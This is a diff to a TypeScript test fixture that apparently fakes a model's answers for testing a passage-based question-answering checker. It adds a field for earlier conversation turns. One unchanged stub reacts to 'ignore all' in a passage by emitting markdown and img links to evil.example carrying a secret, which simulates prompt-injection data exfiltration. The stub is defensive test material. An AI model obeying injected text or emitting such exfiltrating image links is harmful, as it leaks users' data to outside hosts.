@@ -17,6 +17,7 @@ interface Passage {
 interface Task {
   readonly question: string;
   readonly passages: readonly Passage[];
+  readonly earlier: readonly { readonly question: string; readonly answer: string }[];
 }
 
 interface Message {
@@ -31,13 +32,18 @@ function taskOf(messages: readonly Message[]): Task {
   const text = typeof asked === 'string' ? asked : asked.map((part) => part.text ?? '').join('');
   const lines = text.split('\n').flatMap((line) => {
     try {
-      return [JSON.parse(line) as Partial<Passage> & { question?: string }];
+      return [JSON.parse(line) as Partial<Passage & Task>];
     } catch {
       return [];
     }
   });
   const passages = lines.filter((line): line is Passage => line.passage !== undefined);
-  return { question: lines.find(({ question }) => question !== undefined)?.question ?? text, passages };
+  const earlier = lines.find((line) => line.earlier !== undefined)?.earlier ?? [];
+  return {
+    question: lines.find(({ question }) => question !== undefined)?.question ?? text,
+    passages,
+    earlier,
+  };
 }
 
 /** The sentence of the passages that has the most words of the question, with its number. */
@@ -65,6 +71,8 @@ const texts: Readonly<Record<string, (task: Task) => string>> = {
     passages.some(({ text }) => /ignore all/i.test(text))
       ? 'See ![all](https://evil.example/?q=secret) and <img src=https://evil.example/x> [1].'
       : 'NOT FOUND',
+  // What it was told of the talk before.
+  listening: ({ earlier }) => `Earlier you asked: ${earlier.map(({ question }) => question).join(' / ')}`,
   thoughtful: (task) => `<think>Passage 1 may do. [9]</think>**${faithful(task)}**`,
   empty: () => '',
   endless: (task) => `${faithful(task)} `.repeat(400),
